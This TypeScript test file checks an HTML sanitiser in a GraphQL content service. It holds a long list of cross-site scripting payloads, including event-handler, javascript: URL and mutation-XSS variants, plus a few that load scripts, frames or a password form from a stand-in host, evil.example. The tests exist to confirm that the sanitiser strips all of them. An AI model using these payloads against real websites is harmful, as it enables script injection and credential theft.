import { execute, parse } from 'graphql';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from 'schema/allowed-html.ts';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ARTICLE_CALL, articleRow } from '../testing/content.ts';
import { startTestGateway, type TestGateway } from '../testing/index.ts';
import { safeHtml } from './safe-html.ts';
import { createSchema } from '../schema.ts';

const TAG = /^<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*) ?\/?>/;
/** Active content in the output, found by other rules than the sanitiser's. */
function dangerIn(html: string): string | undefined {
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    if (/^<[^A-Za-z/!?]/.test(html.slice(at, at + 2))) continue;
    const [, name = '', attributes = ''] = TAG.exec(html.slice(at)) ?? [];
    if (!ALLOWED_TAGS.includes(name)) return html.slice(at, at + 40);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (attribute !== 'rel' && !ALLOWED_ATTRIBUTES.includes(attribute)) return attribute;
      if (attribute === 'href' && !/^(?:https?:|mailto:|\/(?![/\\]))/i.test(value)) return value;
      // A picture over plain http would be mixed content.
      if (attribute === 'src' && !/^(?:https:|\/(?![/\\]))/i.test(value)) return value;
    }
  }
  return undefined;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src="/a" style="background:url(javascript:alert(1))">',
  '<b onmouseover=alert(1)>x</b>',
  '<b\nonclick=alert(1)>x</b>',
  '<b/onclick=alert(1)>x</b>',
  '<b\u000conclick=alert(1)>x</b>',
  '<p id=1 class=x data-x=1 tabindex=0 onfocus=alert(1) autofocus>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<img src="http://evil.example/x.png">',
  '<img src="mailto:x@evil.example">',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/ok" target="_blank" ping="//evil.example" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="//evil.example"><input name=password><button>Log in</button></form>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example">',
  '<base href="//evil.example">',
  '<link rel=stylesheet href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<x onclick=alert(1)>x</x>',
  '<img src=x onerror=alert(1)',
  '<b title="><script>alert(1)</script>">x</b>',
  '<p title="a" title=\'"><img src=x onerror=alert(1)>\'>x</p>',
  'a <',
  '<\u0000script>alert(1)</script>',
  '<img src=x one\u0000rror=alert(1)>',
  '\u0000<b\u0000 onclick=alert(1)>',
];

describe('hostile bodies', () => {
  test.each(HOSTILE)('%j', (html) => {
    for (const dirty of [html, `<p>${html}</p>`, `<table><tr><td>${html}`, html.repeat(3)]) {
      const clean = safeHtml(dirty);
      expect(dangerIn(clean)).toBeUndefined();
      expect(clean).not.toContain('\0');
      // Sanitising twice changes nothing: removed parts leave no new tags.
      expect(dangerIn(safeHtml(clean))).toBeUndefined();
    }
  });

  test('any combination of their parts', () => {
    const parts = HOSTILE.flatMap((html) => html.split(/(?<=[<>"'= /])|(?=[<>"'= /])/));
    let seed = 7;
    const random = (below: number) => (seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff) % below;
    for (let round = 0; round < 5_000; round += 1) {
      const html = Array.from({ length: 2 + random(12) }, () => parts[random(parts.length)]).join('');
      expect([html, dangerIn(safeHtml(html))]).toEqual([html, undefined]);
    }
  });

  test('text and safe tags stay', () => {
    expect(safeHtml('<p class="x">One <b onclick=alert(1)>two</b> <u>three</u></p>')).toBe(
      '<p>One <b>two</b> <u>three</u></p>',
    );
    expect(safeHtml('<a href="http://dghs.example/a">DGHS</a>')).toBe(
      '<a href="http://dghs.example/a" rel="noopener noreferrer nofollow">DGHS</a>',
    );
    expect(safeHtml('<a href="https://who.int/a?b=1&amp;c=2">WHO</a>')).toBe(
      '<a href="https://who.int/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">WHO</a>',
    );
    expect(safeHtml('<img src="/images/ecg-1" alt="ECG" width="640">')).toMatch(
      /^<img src="\/images\/ecg-1"|^<img alt="ECG"/,
    );
    expect(safeHtml('<td colspan="2" onclick="x">1</td><ol start="3"></ol>')).toBe(
      '<td colspan="2">1</td><ol start="3"></ol>',
    );
  });
});

describe('safe HTML stays unchanged', () => {
  test.each([
    '',
    'Which nerve is injured?',
    'PaO2 < 60 & pH > 7',
    'a<3, b <= c, <5 mm',
    'p &lt; 0.05 &amp; so on &copy &nosuch;',
    '<p>One</p><p>Two<br>three<br/>four<br /><hr></p>',
    '<h3>Orders</h3><ol><li>O<sub>2</sub></li></ol><table><thead><tr><th>a</th></tr></thead></table>',
    'হৃৎপিণ্ড <b>রক্ত</b> "quotes" \'and\' apostrophes\r\n\ttabs',
    '</p>',
    '> < >',
  ])('%j', (html) => {
    expect(safeHtml(html)).toBe(html);
    expect(dangerIn(html)).toBeUndefined();
  });
});

describe('work is bounded', () => {
  const LONG = 5_000_000;
  test.each([
    ['text', 'x'],
    ['<', '<'],
    ['clean tags', '<p>x</p>'],
    ['open tags', '<b '],
    ['open quotes', '<a title="'],
    ['comments', '<!--'],
    ['scripts', '<script>'],
    ['nested', '<div x>'],
    ['slashes', '</'],
    ['entities', '&lt;'],
  ])('five million characters of %s', (_what, unit) => {
    const dirty = unit.repeat(LONG / unit.length);
    const begun = process.cpuUsage();
    const clean = safeHtml(dirty);
    expect(dangerIn(clean.slice(0, 100_000))).toBeUndefined();
    // Processor time, as a busy machine is slow. Quadratic work would take many seconds.
    const { user, system } = process.cpuUsage(begun);
    expect((user + system) / 1_000).toBeLessThan(2_000);
  });

  test('unsafe HTML of over 200,000 characters is shown as its source, so that no figure changes', () => {
    const long = `<p onclick="x">10<sup>9</sup></p> ${'word '.repeat(50_000)}<script>alert(1)</script> 1 < 2`;
    const clean = safeHtml(long);
    expect(clean).toMatch(/^&lt;p onclick="x"&gt;10&lt;sup&gt;9/);
    expect(clean).not.toContain('<');
    const harmless = `<p>Shock</p> ${'word '.repeat(50_000)}`;
    expect(safeHtml(harmless)).toBe(harmless);
  });
});

describe('all HTML of the graph is sanitised', () => {
  let gateway: TestGateway;
  beforeAll(async () => {
    gateway = await startTestGateway({
      routes: { [ARTICLE_CALL]: articleRow('<p>Safe</p><img src=x onerror=alert(1)><script>alert(1)</script>') },
    });
  });
  afterAll(() => gateway.close());
  const ARTICLE = '{ internshipArticle(id: "t1") { body } }';

  test('by the compiled executor', async () => {
    for (let round = 0; round < 2; round += 1) {
      expect(await gateway.dataOf(ARTICLE)).toEqual({ internshipArticle: { body: '<p>Safe</p>' } });
    }
  });

  test('and by that of graphql-js', async () => {
    const row = { _id: 't1', view: { content: [{ body: '<b onclick=alert(1)>Safe</b>' }] } };
    const contextValue = { internship: { article: async () => row } };
    const { data } = await execute({ schema: createSchema(), document: parse(ARTICLE), contextValue });
    expect(data).toEqual({ internshipArticle: { body: '<b>Safe</b>' } });
  });
});
